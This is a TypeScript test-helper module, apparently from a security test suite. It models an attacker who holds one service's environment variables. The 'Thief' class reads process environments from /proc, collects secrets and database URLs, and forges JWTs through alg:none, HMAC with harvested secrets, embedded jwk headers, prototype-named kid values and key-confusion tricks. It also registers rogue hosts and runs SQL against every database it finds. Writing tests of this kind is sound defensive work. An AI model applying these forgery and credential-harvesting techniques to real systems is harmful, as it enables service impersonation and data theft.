// Somebody who holds the environment of one service, and nothing else of its machine: its variables, its network, and the
// source of the product, which is public. Guarantees: whatever it does it does with what is in those variables, by raw
// means (fetch, ws, pg, jose); tokens are forged in every way that its keys allow. It must not know what its victim knows.
import { createHmac, hkdfSync, randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { importJWK, type JWK, SignJWT } from 'jose';
import pg from 'pg';
import WebSocket from 'ws';
import { canonicalContract } from '../../src/banyan/placement/canonical.ts';
import type { Snapshot } from '../../src/banyan/routing/snapshot.ts';
import { media } from '../../src/modules/media/contract.ts';
import { orders } from '../../src/modules/orders/contract.ts';
import { users } from '../../src/modules/users/contract.ts';
import { type Answer, ask, Refused } from './attempt.ts';

const contracts = { media, orders, users };
export type Known = keyof typeof contracts;

const encoded = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** The environment of a process, as it is in the kernel. */
export function environmentOf(pid: number): Record<string, string> {
  const lines = readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0').filter(Boolean);
  return Object.fromEntries(lines.map((line) => line.split(/=(.*)/s).slice(0, 2) as [string, string]));
}

export class Thief {
  readonly env: Readonly<Record<string, string>>;
  readonly control: string;
  /** What anybody knows. */
  readonly publicUrl: string;
  /** The service's name, and its module. */
  readonly self = 'media';
  readonly #clients = new Set<pg.Client>();

  constructor(env: Record<string, string>, publicUrl: string) {
    this.env = env;
    this.control = env.CONTROL_URL!;
    this.publicUrl = publicUrl;
  }

  /** Its values that are long enough for a secret, and what is secret in those that are keys or addresses. */
  get secrets(): string[] {
    const values = Object.values(this.env).flatMap((value) => {
      if (value.startsWith('{')) return Object.values(JSON.parse(value) as object).map(String);
      if (!URL.canParse(value)) return [value];
      return [value, decodeURIComponent(new URL(value).password)];
    });
    return [...new Set(values)].filter((value) => value.length >= 16 && !/[\s/]/.test(value));
  }

  /** Every way into a database. */
  get databases(): string[] {
    return [...new Set(Object.values(this.env).filter((value) => /^postgres(ql)?:/.test(value)))];
  }

  get key(): JWK | undefined {
    const given = this.env.SERVICE_KEY;
    return given === undefined ? undefined : (JSON.parse(given) as JWK);
  }

  /** As the service itself asks, which nobody forbids. */
  own(audience: string): Promise<string> {
    return this.key ? this.#signed(this.self, audience) : this.#shared(this.self, audience);
  }

  /** Tokens that say to be `as`, made in all ways that the environment allows. */
  async forged(as: string, audience: string): Promise<string[]> {
    const made: string[] = [];
    if (this.env.INTERNAL_KEY) made.push(await this.#shared(as, audience));
    for (const secret of this.secrets) made.push(await this.#shared(as, audience, secret));
    const claims = { ...times(), iss: 'banyan:internal', aud: audience, sub: as, caller: as };
    made.push(`${encoded({ alg: 'none', typ: 'JWT' })}.${encoded(claims)}.`);
    if (!this.key) return made;
    made.push(await this.#signed(as, audience));
    made.push(await this.#signed(as, audience, { jwk: publicOf(this.key) }));
    // Names that an object has without being given them.
    for (const kid of ['__proto__', 'constructor', 'toString', '', this.self])
      made.push(await this.#signed(as, audience, { kid }));
    for (const { kid, x } of (await this.snapshot()).services?.[as]?.keys ?? []) {
      made.push(await this.#signed(as, audience, { kid: kid as string }));
      const text = `${encoded({ alg: 'HS256', kid })}.${encoded(claims)}`;
      made.push(
        `${text}.${createHmac('sha256', x as string)
          .update(text)
          .digest('base64url')}`,
      );
    }
    return made;
  }

  async #signed(as: string, audience: string, header: object = {}): Promise<string> {
    const key = this.key!;
    return new SignJWT({ caller: as })
      .setProtectedHeader({ alg: 'EdDSA', typ: 'JWT', kid: key.kid!, ...header })
      .setIssuer('banyan:internal')
      .setSubject(as)
      .setAudience(audience)
      .setIssuedAt()
      .setExpirationTime('5m')
      .sign(await importJWK(key, 'EdDSA'));
  }

  /** By a key that all hosts share, as it was once. */
  async #shared(as: string, audience: string, secret = this.env.INTERNAL_KEY ?? ''): Promise<string> {
    const key = new Uint8Array(hkdfSync('sha256', secret, '', 'banyan internal token v1', 32));
    return new SignJWT({ caller: as })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' })
      .setIssuer('banyan:internal')
      .setSubject(as)
      .setAudience(audience)
      .setIssuedAt()
      .setExpirationTime('5m')
      .sign(key);
  }

  /** One exchange with control. */
  async sync(body: object, token?: string): Promise<Answer> {
    return ask(`${this.control}/control/sync`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token ?? (await this.own('control'))}` },
      json: { tag: '', waitMs: 0, ...body },
    });
  }

  async snapshot(): Promise<
    Snapshot & { services?: Record<string, { keys: readonly Record<string, unknown>[] }> }
  > {
    const { status, body, text } = await this.sync({});
    if (status !== 200) throw new Refused(`the picture: ${status} ${text}`);
    return body.snapshot;
  }

  /** A host's place in the registry, as one asks for it. */
  registration(id: string, modules: readonly Known[], more: object = {}) {
    return {
      host: randomUUID(),
      id,
      role: 'service',
      modules,
      url: 'http://127.0.0.1:9',
      doors: ['http'],
      process: { machine: 'elsewhere', pid: 1, started: '1' },
      contracts: Object.fromEntries(modules.map((module) => [module, canonicalContract(contracts[module])])),
      ...more,
    };
  }

  /** Enters the registry; takes itself out again where it was let in, so that one attempt does not spoil the next. */
  async registers(registration: ReturnType<Thief['registration']>, tokens?: readonly string[]) {
    const answers: Answer[] = [];
    for (const token of tokens ?? [await this.own('control')]) {
      const beat = { host: registration.host, appliedVersion: 0, ...quiet };
      const answer = await this.sync({ register: registration, beat }, token);
      answers.push(answer);
      if (answer.status === 200) await this.sync({ leave: registration.host }, token);
    }
    return answers;
  }

  /**
   * One statement in each database that it knows. Resolves with the rows of the first that answers, else throws Refused.
   * @param tries taken back at once, so that a success does not spoil what is tried after it.
   */
  async sql(text: string, values: unknown[] = [], tries = false): Promise<Record<string, unknown>[]> {
    const said: string[] = [];
    for (const url of this.databases) {
      const client = await this.connect(url);
      try {
        if (tries) await client.query('BEGIN');
        return (await client.query(text, values)).rows;
      } catch (error) {
        const { code = '', message } = error as { code?: string; message: string };
        if (mistakes.has(code)) throw new Error(`the attempt itself is wrong: ${message}: ${text}`);
        said.push(message);
      } finally {
        await this.hangUp(client);
      }
    }
    throw new Refused(said.join('; ') || 'no database is known');
  }

  async connect(url: string): Promise<pg.Client> {
    const client = new pg.Client({
      connectionString: url,
      connectionTimeoutMillis: 5_000,
      query_timeout: 15_000,
    });
    client.on('error', () => {});
    await client.connect();
    this.#clients.add(client);
    return client;
  }

  async hangUp(client: pg.Client): Promise<void> {
    this.#clients.delete(client);
    await client.end().catch(() => {});
  }

  async close(): Promise<void> {
    await Promise.all([...this.#clients].map((client) => this.hangUp(client)));
  }
}

/** Of syntax, columns and types: nobody was refused. */
const mistakes = new Set(['42601', '42703', '42804', '42P18', '22P02', '25001']);

export const quiet = { ready: true, draining: false, inflight: {}, busy: {} };

function times() {
  const iat = Math.floor(Date.now() / 1000);
  return { iat, exp: iat + 300 };
}

export function publicOf({ kty, crv, x }: JWK): JWK {
  return { kty, crv, x } as JWK;
}

/** One call over the WebSocket, with a token of the handshake; answers the result or the error. */
export function callOverWs(origin: string, token: string, method: string, params: object): Promise<Answer> {
  return new Promise((resolve) => {
    const answer = (status: number, body: unknown) => {
      resolve({ status, headers: new Headers(), text: JSON.stringify(body), body });
      socket.terminate();
    };
    const socket = new WebSocket(`${origin.replace(/^http/, 'ws')}/calls`, {
      headers: { authorization: `Bearer ${token}` },
      handshakeTimeout: 5_000,
    });
    socket.once('unexpected-response', (_request, { statusCode = 0 }) => answer(statusCode, 'no handshake'));
    socket.on('error', (error) => answer(401, error.message));
    socket.once('close', () => answer(401, 'closed'));
    socket.once('open', () => socket.send(JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })));
    socket.on('message', (data) => {
      for (const message of [JSON.parse(String(data))].flat()) {
        if (message.id !== 1) continue;
        answer(message.error ? (message.error.data?.status ?? 404) : 200, message.error ?? message.result);
      }
    });
  });
}

export interface Trap {
  readonly url: string;
  /** What came to it: headers and address, in order. */
  readonly caught: {
    readonly url: string;
    readonly headers: IncomingMessage['headers'];
    readonly body: string;
  }[];
  close(): Promise<void>;
}

/** A server of the attacker's that takes everything and keeps what it is sent. */
export async function setTrap({
  headers = { 'content-type': 'application/json' },
  body: answer = '{"items":[],"nextCursor":null}',
}: {
  headers?: Record<string, string>;
  body?: string;
} = {}): Promise<Trap> {
  const caught: Trap['caught'] = [];
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += chunk;
    caught.push({ url: request.url!, headers: request.headers, body });
    response.writeHead(200, headers).end(answer);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    caught,
    async close() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}
